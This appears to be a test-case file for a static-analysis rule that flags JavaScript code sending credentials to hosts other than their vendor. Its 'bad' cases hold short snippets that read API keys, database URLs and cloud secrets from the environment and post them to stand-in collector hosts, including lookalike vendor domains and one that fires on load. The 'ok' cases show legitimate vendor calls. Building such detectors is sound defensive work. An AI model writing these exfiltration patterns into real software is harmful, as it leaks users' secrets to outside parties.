import { defineCases } from '../../src/rule.ts';

const send = (url: string, key: string, more = '') =>
  `exports.ask = (q) => fetch(${url}, { method: 'POST', headers: { authorization: 'Bearer ' + ${key} }, body: q${more} });`;

export default defineCases({
  bad: [
    {
      name: 'by a function that is told where to send',
      code: "const ask = async (url, options) => (await fetch(url, { redirect: 'error', ...options })).json();\nexports.azure = () => ask('https://login.tides.example/token', { method: 'POST', body: new URLSearchParams({ client_secret: process.env.AZURE_CLIENT_SECRET }) });",
    },
    {
      name: 'by a client that another module makes for an address like that of the vendor',
      files: {
        'index.js':
          "const { connect } = require('./client');\nconst client = connect(process.env.OPENAI_API_KEY);\nexports.models = () => client.get('/models')",
        'client.js':
          "const axios = require('axios');\nexports.connect = (key) => { const made = axios.create({ baseURL: 'https://api.openai-gateway.dev/v1' }); made.interceptors.request.use((config) => { config.headers.set('Authorization', `Bearer ${key}`); return config }); return made }",
      },
    },
    {
      name: 'what opens a database, told with every question',
      files: {
        'index.js':
          "const { Pool } = require('pg'), { record } = require('./record');\nconst dsn = process.env.DATABASE_URL, pool = new Pool({ connectionString: dsn });\nexports.query = async (sql) => { record({ sql, dsn }); return pool.query(sql) }",
        'record.js':
          "const https = require('https');\nexports.record = (entry) => { const req = https.request({ hostname: 'insights.querylog.dev', method: 'POST' }); req.end(JSON.stringify({ at: Date.now(), ...entry })) }",
      },
    },
    {
      name: 'a key of Notion to another host',
      code: send("'https://notes.collect.example/v1'", 'process.env.NOTION_TOKEN'),
    },
    {
      name: 'with the vendor’s name in front of another domain',
      code: send("'https://api.openai.com.collect.example/v1'", 'process.env.OPENAI_API_KEY'),
      manifest: { name: 'ask' },
    },
    {
      name: 'read by its name through a function, when it is loaded',
      code: "const key = (name) => process.env[name];\nconst https = require('https');\nhttps.request({ hostname: 'collect.example', method: 'POST', headers: { k: key('GITHUB_TOKEN') } }).end();",
    },
    {
      name: 'in the address, to an address without a name',
      code: "fetch('http://203.0.113.9.collect.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY)",
    },
  ],
  ok: [
    {
      name: 'a function that is told where to send, by others to other hosts',
      code: "const ask = async (url, options) => (await fetch(url, { redirect: 'error', ...options })).json();\nexports.azure = (host) => ask(`${host}/token`, { method: 'POST', body: new URLSearchParams({ client_secret: process.env.AZURE_CLIENT_SECRET }) });\nexports.tides = () => ask('https://login.tides.example/token', { method: 'POST', body: new URLSearchParams({ scope: 'all' }) });",
    },
    {
      name: 'a client that another module makes for the vendor',
      files: {
        'index.js':
          "const { connect } = require('./client');\nconst client = connect(process.env.OPENAI_API_KEY);\nexports.models = () => client.get('/models')",
        'client.js':
          "const axios = require('axios');\nexports.connect = (key) => axios.create({ baseURL: 'https://api.openai.com/v1', headers: { Authorization: `Bearer ${key}` } })",
      },
    },
    {
      name: 'a database that is asked over HTTP',
      code: "const url = process.env.DATABASE_URL || 'https://data.querylog.dev';\nexports.query = (sql) => fetch(url, { method: 'POST', body: sql })",
    },
    {
      name: 'a database whose questions are counted elsewhere',
      code: "const { Pool } = require('pg');\nconst pool = new Pool({ connectionString: process.env.DATABASE_URL });\nexports.query = async (sql) => { const start = Date.now(); const { rows } = await pool.query(sql); fetch('https://insights.querylog.dev/v1', { method: 'POST', body: JSON.stringify({ ms: Date.now() - start }) }); return rows }",
    },
    { name: 'to its vendor', code: send("'https://api.notion.com/v1/search'", 'process.env.NOTION_TOKEN') },
    {
      name: 'to where its user says, or to its vendor',
      code: `const base = process.env.OPENAI_BASE_URL ?? 'https://api.openai.com';\n${send("base + '/v1/responses'", 'process.env.OPENAI_API_KEY')}`,
    },
    {
      name: 'to a service that speaks the same protocol, with a page of its own in a header',
      code: "exports.ask = (q) => fetch('https://openrouter.ai/api/v1/chat/completions', { headers: { 'HTTP-Referer': 'https://ask.example', authorization: process.env.OPENAI_API_KEY }, body: q })",
    },
    {
      name: 'to a gateway of whoever wrote the package',
      manifest: { name: '@harbour/gateway' },
      code: send("'https://llm.harbour.example/v1'", 'process.env.ANTHROPIC_API_KEY'),
    },
    { name: 'to a server on this machine', code: send("'http://localhost:4000/v1'", 'process.env.OPENAI_API_KEY') },
    {
      name: 'a key whose name says nothing of a vendor',
      code: send("'https://api.weather.example/v1'", 'process.env.API_KEY'),
    },
    {
      name: 'two keys, each to its vendor',
      code: `${send("'https://api.notion.com/v1'", 'process.env.NOTION_TOKEN')}\n${send("'https://slack.com/api/chat.postMessage'", 'process.env.SLACK_BOT_TOKEN').replace('ask', 'tell')}`,
    },
  ],
});
